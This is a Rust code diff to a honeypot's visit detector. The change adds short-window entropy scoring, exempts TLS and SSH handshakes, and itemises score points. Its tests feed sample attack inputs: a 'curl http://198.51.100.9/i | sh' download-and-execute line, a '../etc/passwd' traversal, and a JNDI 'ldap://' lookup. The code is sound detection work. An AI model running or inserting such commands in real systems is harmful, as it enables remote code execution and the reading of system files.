@@ -1,11 +1,13 @@
 //! Visits: what a trap session amounts to.
 
 use crate::{
-    Intent, Verdict, entropy_millibits, entropy_window_max_millibits,
-    pattern::{Family, Found, Patterns, describe},
+    ENTROPY_SHORT_BYTES, ENTROPY_WINDOW_BYTES, Intent, Verdict, entropy_millibits, entropy_short_max_millibits,
+    entropy_window_max_millibits,
+    pattern::{Found, Patterns, printable},
+    shape::{is_exploit, weight, words},
 };
-use alloc::{format, string::String, vec::Vec};
-use honeymesh_types::{Grade, Reasons, Scope, Signs, Transport, Visit};
+use alloc::{borrow::Cow, format, string::String, vec::Vec};
+use honeymesh_types::{Entropies, Grade, Marks, Reasons, Scope, Shape, Signs, Transport, Visit};
 
 /// The highest score.
 const SCORE_MAX: u8 = 100;
@@ -17,8 +19,8 @@ const SCORE_PAYLOAD: u8 = 10;
 const SCORE_ENTROPY: u8 = 15;
 /// From here on 256 bytes look encrypted or packed: text stays below 6,000, random bytes reach 7,170.
 const ENTROPY_HIGH_MILLIBITS: u16 = 6_900;
-/// Below this many bytes entropy says nothing.
-const ENTROPY_BYTES_MIN: usize = crate::ENTROPY_WINDOW_BYTES;
+/// From here on 64 bytes do: base64 stays below 5,600, 64 random bytes have 5,760 on the average, 6,000 is the most.
+const ENTROPY_SHORT_HIGH_MILLIBITS: u16 = 5_700;
 
 /// Known strings that weigh so much together are an attack, wherever they are said.
 const ATTACK_WEIGHT_MIN: u8 = 30;
@@ -31,7 +33,10 @@ const SIGNS: [(Signs, u8, &str); 4] = [
     (Signs::MALFORMED, 10, "broke the protocol"),
 ];
 
-/// Judges visits. Holds the automaton of known attack strings, so build it once.
+/// Protocols whose first message is random by design; that it is dense says nothing.
+const DENSE_BY_DESIGN: [&[u8]; 3] = [b"\x16\x03", b"SSH-", b"\x80\x80\x01"];
+
+/// Judges visits by what was recognised in them.
 #[derive(Default)]
 pub struct Detector {
     patterns: Patterns,
@@ -46,33 +51,45 @@ impl Detector {
 
     /// Judges what a trap saw. A TCP visit is a finished handshake, so it is never `spoofable`; a UDP one always is, since
     /// anybody can write any source on a datagram.
+    ///
+    /// What the process that parses strangers' bytes recognised is taken as it is. In a visit that no such process has seen (the
+    /// kernel's program finished the handshake) known strings are searched for, in one linear pass, and nothing is decoded.
     pub fn judge_visit(&self, visit: &Visit) -> Verdict {
-        let found = self.found(visit);
-        let grade = grade(visit, &found);
+        let marks = visit.marks.as_ref().map_or_else(|| Cow::Owned(self.marks(visit)), Cow::Borrowed);
+        let grade = grade(visit, &marks);
+        let points = points(visit, &marks);
         Verdict {
             grade,
             reasons: Reasons::TRAP,
             scope: if grade == Grade::Spoofable { Scope::Dark } else { Scope::All },
-            score: score(visit, &found),
-            entropy_millibits: entropy_millibits(&visit.payload),
-            findings: findings(visit, &found),
-            intent: intent(grade, &found),
+            score: points.iter().map(|(points, _)| *points).fold(0, u8::saturating_add).min(SCORE_MAX),
+            entropy_millibits: marks.entropy.whole,
+            // What is true of every visit is no finding.
+            findings: points.iter().skip(1).map(|(_, words)| words.clone()).collect(),
+            reckoning: points.iter().map(|(points, words)| format!("{points} {words}")).collect(),
+            intent: intent(grade, &marks),
         }
     }
 
-    fn found(&self, visit: &Visit) -> Found {
+    fn marks(&self, visit: &Visit) -> Marks {
         let mut found = Found::new();
         self.patterns.search(&visit.payload, &mut found);
         visit.fields.values().for_each(|value| self.patterns.search(value.as_bytes(), &mut found));
-        found
+        let entropy = Entropies {
+            whole: entropy_millibits(&visit.payload),
+            window: entropy_window_max_millibits(&visit.payload),
+            short: entropy_short_max_millibits(&visit.payload),
+            sent: None,
+        };
+        Marks { shapes: found.into_iter().map(|(shape, string)| (shape, printable(string))).collect(), entropy }
     }
 }
 
-fn grade(visit: &Visit, found: &Found) -> Grade {
+fn grade(visit: &Visit, marks: &Marks) -> Grade {
     let hostile_signs = Signs::CREDENTIALS | Signs::BAIT | Signs::RULE;
     if visit.transport == Transport::Udp {
         Grade::Spoofable
-    } else if visit.signs.intersects(hostile_signs) || found.keys().any(|family| family.is_exploit()) {
+    } else if visit.signs.intersects(hostile_signs) || marks.shapes.keys().any(|shape| is_exploit(*shape)) {
         Grade::Hostile
     } else if visit.bytes > 0 || !visit.payload.is_empty() {
         Grade::Payload
@@ -82,33 +99,44 @@ fn grade(visit: &Visit, found: &Found) -> Grade {
 }
 
 /// Names of tools and products alone weigh little: monitors and administrators use such clients, too.
-fn intent(grade: Grade, found: &Found) -> Intent {
-    let weight = found.keys().map(|family| family.weight()).fold(0, u8::saturating_add);
-    if grade == Grade::Hostile || weight >= ATTACK_WEIGHT_MIN { Intent::Attack } else { Intent::Unclear }
+fn intent(grade: Grade, marks: &Marks) -> Intent {
+    let together = marks.shapes.keys().map(|shape| weight(*shape)).fold(0, u8::saturating_add);
+    if grade == Grade::Hostile || together >= ATTACK_WEIGHT_MIN { Intent::Attack } else { Intent::Unclear }
 }
 
-fn score(visit: &Visit, found: &Found) -> u8 {
-    let base = if visit.bytes > 0 { SCORE_PAYLOAD } else { SCORE_HANDSHAKE };
-    let signs = SIGNS.iter().filter(|(sign, ..)| visit.signs.contains(*sign)).map(|(_, weight, _)| *weight);
-    let families = found.keys().map(|family| family.weight());
-    let entropy = is_dense(visit).then_some(SCORE_ENTROPY);
-    signs.chain(families).chain(entropy).fold(base, u8::saturating_add).min(SCORE_MAX)
+/// What makes up the score, each with its words: first what is true of every visit, then the signs, the shapes, the entropy.
+fn points(visit: &Visit, marks: &Marks) -> Vec<(u8, String)> {
+    let base = if visit.bytes > 0 { (SCORE_PAYLOAD, "it spoke") } else { (SCORE_HANDSHAKE, "it connected") };
+    let signs = SIGNS.iter().filter(|(sign, ..)| visit.signs.contains(*sign)).map(|(_, points, words)| (*points, *words));
+    let plain = core::iter::once(base).chain(signs).map(|(points, words)| (points, words.into()));
+    let shapes = marks.shapes.iter().map(|(shape, shown)| (weight(*shape), describe(*shape, shown)));
+    let dense = dense(visit, marks).map(|words| (SCORE_ENTROPY, words));
+    plain.chain(shapes).chain(dense).collect()
 }
 
-fn findings(visit: &Visit, found: &Found) -> Vec<String> {
-    let signs = SIGNS.iter().filter(|(sign, ..)| visit.signs.contains(*sign)).map(|(_, _, words)| String::from(*words));
-    let families = found.iter().map(|(family, string): (&Family, _)| describe(*family, string));
-    let dense = is_dense(visit).then(|| dense_words(visit));
-    signs.chain(families).chain(dense).collect()
+/// One shape in words, with what showed it.
+fn describe(shape: Shape, shown: &str) -> String {
+    if shown.is_empty() { words(shape).into() } else { format!("{}: {shown}", words(shape)) }
 }
 
-fn is_dense(visit: &Visit) -> bool {
-    visit.payload.len() >= ENTROPY_BYTES_MIN && entropy_window_max_millibits(&visit.payload) >= ENTROPY_HIGH_MILLIBITS
+/// Whether bytes look encrypted or packed that need not, in words.
+fn dense(visit: &Visit, marks: &Marks) -> Option<String> {
+    if DENSE_BY_DESIGN.iter().any(|first| visit.payload.starts_with(first)) {
+        return None;
+    }
+    let Entropies { window, short, .. } = marks.entropy;
+    let is_dense = |size, entropy, high| visit.payload.len() >= size && entropy >= high;
+    if is_dense(ENTROPY_WINDOW_BYTES, window, ENTROPY_HIGH_MILLIBITS) {
+        Some(dense_words("256", window))
+    } else if is_dense(ENTROPY_SHORT_BYTES, short, ENTROPY_SHORT_HIGH_MILLIBITS) {
+        Some(dense_words("64", short))
+    } else {
+        None
+    }
 }
 
-fn dense_words(visit: &Visit) -> String {
-    let millibits = entropy_window_max_millibits(&visit.payload);
-    format!("looks encrypted or packed: {}.{:02} bits a byte", millibits / 1_000, millibits % 1_000 / 10)
+fn dense_words(size: &str, millibits: u16) -> String {
+    format!("looks encrypted or packed: {}.{:02} bits a byte in {size} bytes", millibits / 1_000, millibits % 1_000 / 10)
 }
 
 #[cfg(test)]
@@ -130,6 +158,7 @@ mod tests {
             bytes: payload.len() as u64,
             signs,
             fields: BTreeMap::new(),
+            marks: None,
         }
     }
 
@@ -182,6 +211,8 @@ mod tests {
         let verdict = Detector::new().judge_visit(&visit(b"curl http://198.51.100.9/i | sh", Signs::CREDENTIALS));
         assert_eq!(verdict.findings, ["tried credentials", "fetches a program: curl http", "feeds a shell: | sh"]);
         assert_eq!(verdict.score, 100);
+        let sum = ["10 it spoke", "30 tried credentials", "45 fetches a program: curl http", "40 feeds a shell: | sh"];
+        assert_eq!(verdict.reckoning, sum);
         let quiet = Detector::new().judge_visit(&visit(b"", Signs::empty()));
         assert_eq!((quiet.score, quiet.findings.len()), (SCORE_HANDSHAKE, 0));
     }
@@ -197,9 +228,22 @@ mod tests {
     fn dense_bytes_score_and_short_ones_do_not() {
         let dense: Vec<u8> = (0..=255).collect();
         let verdict = Detector::new().judge_visit(&visit(&dense, Signs::empty()));
-        assert_eq!(verdict.findings, vec!["looks encrypted or packed: 8.00 bits a byte"]);
+        assert_eq!(verdict.findings, vec!["looks encrypted or packed: 8.00 bits a byte in 256 bytes"]);
         assert_eq!((verdict.score, verdict.entropy_millibits), (SCORE_PAYLOAD + SCORE_ENTROPY, 8_000));
-        assert!(Detector::new().judge_visit(&visit(&dense[..200], Signs::empty())).findings.is_empty());
+        let short = Detector::new().judge_visit(&visit(&dense[..200], Signs::empty()));
+        assert_eq!(short.findings, vec!["looks encrypted or packed: 6.00 bits a byte in 64 bytes"]);
+        assert!(Detector::new().judge_visit(&visit(&dense[..60], Signs::empty())).findings.is_empty());
+        let hello = [&b"\x16\x03\x01"[..], &dense].concat();
+        assert!(Detector::new().judge_visit(&visit(&hello, Signs::empty())).findings.is_empty(), "TLS is random by design");
+    }
+
+    #[test]
+    fn what_was_recognised_elsewhere_is_believed_and_not_searched_for_again() {
+        let shapes = BTreeMap::from([(Shape::Jndi, String::from("ldap://x"))]);
+        let marks = Marks { shapes, entropy: Entropies { whole: 4_000, ..Entropies::default() } };
+        let verdict = Detector::new().judge_visit(&Visit { marks: Some(marks), ..visit(b"../etc/passwd", Signs::empty()) });
+        assert_eq!(verdict.findings, ["makes a logger load code: ldap://x"]);
+        assert_eq!((verdict.grade, verdict.score, verdict.entropy_millibits), (Grade::Hostile, 70, 4_000));
     }
 
     #[test]
